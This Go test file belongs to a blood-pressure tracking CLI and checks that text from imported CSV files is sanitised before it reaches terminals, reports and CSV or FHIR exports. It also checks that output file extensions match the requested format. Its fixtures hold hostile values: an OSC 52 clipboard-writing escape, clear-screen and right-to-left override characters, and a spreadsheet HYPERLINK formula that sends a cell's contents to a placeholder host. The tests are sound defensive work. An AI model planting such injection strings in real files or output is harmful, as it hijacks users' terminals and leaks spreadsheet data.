package cli

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Device names that act on a terminal or a spreadsheet: an OSC 52
// sequence (writes the reader's clipboard), a clear-screen, a
// right-to-left override, and a formula.
const (
	oscDevice     = "HEM-7600T\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J"
	bidiDevice    = "HEM-\u202eT0067"
	formulaDevice = `=HYPERLINK("https://example.invalid/?"&A1,"HEM-7600T")`
)

// writeOutsideText writes an Omron Connect export (day-first layout, with
// a Device column) whose devices are the three above, to a file whose
// name holds a clear-screen too, and returns its path.
func writeOutsideText(t *testing.T, dir string) string {
	t.Helper()
	var b strings.Builder
	w := csv.NewWriter(&b)
	w.Write([]string{"Date", "Time", "Systolic (mmHg)", "Diastolic (mmHg)", "Pulse (bpm)", "Device"})
	w.Write([]string{"2 Mar 2026", "07:40", "132", "84", "66", oscDevice})
	w.Write([]string{"2 Mar 2026", "19:40", "128", "81", "64", bidiDevice})
	w.Write([]string{"3 Mar 2026", "07:40", "126", "80", "62", formulaDevice})
	w.Flush()
	path := filepath.Join(dir, "week\x1b[2J.csv")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestOutsideTextReachesStdoutSanitized: text from a file (its name, its
// device names) reaches a terminal only through package sanitize, in what
// import prints, in the Markdown report and in a CSV export; a formula is
// exported after an apostrophe (or as it is with --raw-text), and either
// way an export imported again gives the device names back.
func TestOutsideTextReachesStdoutSanitized(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	path := writeOutsideText(t, dir)
	run := func(args ...string) (string, string) {
		t.Helper()
		out, errOut, err := runClinic(t, dir, nil, args...)
		if err != nil {
			t.Fatalf("vitals %s: %v\n%s", strings.Join(args, " "), err, errOut)
		}
		return out, errOut
	}
	noEscape := func(what, s string) {
		t.Helper()
		if strings.ContainsAny(s, "\x1b\x07\u202e") {
			t.Errorf("%s lets a control sequence through:\n%q", what, s)
		}
	}

	out, errOut := run("import", "--tz", "Europe/Berlin", path)
	noEscape("import", out+errOut)
	if !strings.Contains(out, `week\x1b[2J.csv: Omron Connect CSV`) {
		t.Errorf("import does not name the file, escaped:\n%s", out)
	}

	md, _ := run("report", "--from", "2026-03-01", "--to", "2026-03-07")
	noEscape("the Markdown report", md)
	if !strings.Contains(md, `HEM-7600T\x1b`) || !strings.Contains(md, `HEM-\u202eT0067`) {
		t.Errorf("the report does not show the devices, escaped:\n%s", md)
	}
	html := filepath.Join(dir, "week.html")
	run("report", "--from", "2026-03-01", "--to", "2026-03-07", "--out", html)
	data, _ := os.ReadFile(html)
	noEscape("the HTML report", string(data))

	exported, _ := run("export", "--type", "bp")
	noEscape("the CSV export", exported)
	raw, _ := run("export", "--type", "bp", "--raw-text")
	devices := func(s string) []string {
		t.Helper()
		rows, err := csv.NewReader(strings.NewReader(s)).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		var out []string
		for _, r := range rows[1:] {
			out = append(out, r[7])
		}
		return out
	}
	if got := devices(exported); len(got) != 3 || got[2] != "'"+formulaDevice || got[0] != `HEM-7600T\x1b]52;c;ZWNobyBoaQ==\x07\x1b[2J` {
		t.Errorf("exported devices %q: want the formula after an apostrophe, the controls escaped", got)
	}
	if got := devices(raw); len(got) != 3 || got[2] != formulaDevice || got[0] != oscDevice {
		t.Errorf("--raw-text devices %q: want them as they are", got)
	}

	bundle, _ := run("export", "--format", "fhir")
	noEscape("the FHIR export", bundle)
	if !strings.Contains(bundle, `\u001b]52`) || !strings.Contains(bundle, `HEM-\u202eT0067`) {
		t.Errorf("the FHIR export does not escape the controls in JSON")
	}
	var decoded map[string]any
	if err := json.Unmarshal([]byte(bundle), &decoded); err != nil {
		t.Errorf("the FHIR export is not JSON: %v", err)
	}

	// The export, imported into another profile, gives the formula back as
	// the device it was (the apostrophe is the export's).
	csvPath := filepath.Join(dir, "bp.csv")
	if err := os.WriteFile(csvPath, []byte(exported), 0o600); err != nil {
		t.Fatal(err)
	}
	run("profile", "add", "copy")
	run("--profile", "copy", "import", csvPath)
	again, _ := run("--profile", "copy", "export", "--type", "bp", "--raw-text")
	if got := devices(again); len(got) != 3 || got[2] != formulaDevice {
		t.Errorf("the export imported again has devices %q, want %q", got, formulaDevice)
	}
}

// TestOutExtensionMustAgree: report and export refuse an --out whose
// extension names another format than --format, and without --format
// choose the format by the extension.
func TestOutExtensionMustAgree(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		format, out string
		want        string // the format chosen, or "" for a refusal
		text        string // in the refusal
	}{
		{"", "week.docx", "", "md (.md), html (.html) or pdf (.pdf)"},
		{"md", "week.docx", "", "a .docx file does not hold a md report"},
		{"md", "week.pdf", "", "a .pdf file holds a pdf report, and --format asks for md"},
		{"pdf", "week.html", "", "name it .pdf, or give --format html"},
		{"html", "WEEK.HTM", "html", ""},
		{"", "week.pdf", "pdf", ""},
		{"", "week.html", "html", ""},
		{"md", "week.txt", "md", ""},
		{"", "week", "md", ""},
		{"", "", "md", ""},
		{"pdf", "", "pdf", ""},
	} {
		f, err := reportFormat(tt.format, tt.out)
		switch {
		case tt.want == "" && (err == nil || !strings.Contains(err.Error(), tt.text) || !strings.Contains(err.Error(), tt.out)):
			t.Errorf("report --format %q --out %q: %v, %v; want a refusal naming the file and saying %q", tt.format, tt.out, f, err, tt.text)
		case tt.want != "" && (err != nil || string(f) != tt.want):
			t.Errorf("report --format %q --out %q: %v, %v; want %s", tt.format, tt.out, f, err, tt.want)
		}
	}
	for _, tt := range []struct {
		format, out string
		want        string
		text        string
	}{
		{"", "all.json", "fhir", ""},
		{"", "bp.csv", "csv", ""},
		{"", "exports/", "csv", ""},
		{"fhir", "all", "fhir", ""},
		{"csv", "all.json", "", "a .json file holds a FHIR bundle (JSON), and --format asks for CSV"},
		{"fhir", "bp.csv", "", "name it .json, or give --format csv"},
		{"", "bp.xlsx", "", "vitals exports CSV (.csv) or a FHIR bundle (.json)"},
		{"fhir", "bp.xlsx", "", "a .xlsx file does not hold a FHIR bundle (JSON)"},
		{"xml", "", "", "want csv or fhir"},
	} {
		f, err := exportFormat(tt.format, tt.out)
		switch {
		case tt.want == "" && (err == nil || !strings.Contains(err.Error(), tt.text)):
			t.Errorf("export --format %q --out %q: %v, %v; want a refusal saying %q", tt.format, tt.out, f, err, tt.text)
		case tt.want != "" && (err != nil || f != tt.want):
			t.Errorf("export --format %q --out %q: %v, %v; want %s", tt.format, tt.out, f, err, tt.want)
		}
	}

	// On the command line: nothing is written.
	dir := t.TempDir()
	if _, _, err := runClinic(t, dir, nil, "import", ieUS); err != nil {
		t.Fatal(err)
	}
	docx := filepath.Join(dir, "week.docx")
	_, _, err := runClinic(t, dir, nil, "report", "--out", docx)
	if err == nil || !strings.Contains(err.Error(), "md (.md), html (.html) or pdf (.pdf)") {
		t.Errorf("report --out week.docx: %v", err)
	}
	xml := filepath.Join(dir, "bp.json")
	_, _, err = runClinic(t, dir, nil, "export", "--format", "csv", "--type", "bp", "--out", xml)
	if err == nil || !strings.Contains(err.Error(), "--format asks for CSV") {
		t.Errorf("export --format csv --out bp.json: %v", err)
	}
	for _, p := range []string{docx, xml} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s was written", p)
		}
	}
	// Without --format, .json is a FHIR bundle.
	all := filepath.Join(dir, "all.json")
	if _, errOut, err := runClinic(t, dir, nil, "export", "--out", all); err != nil || !strings.Contains(errOut, "as FHIR R4") {
		t.Errorf("export --out all.json: %v\n%s", err, errOut)
	}
}
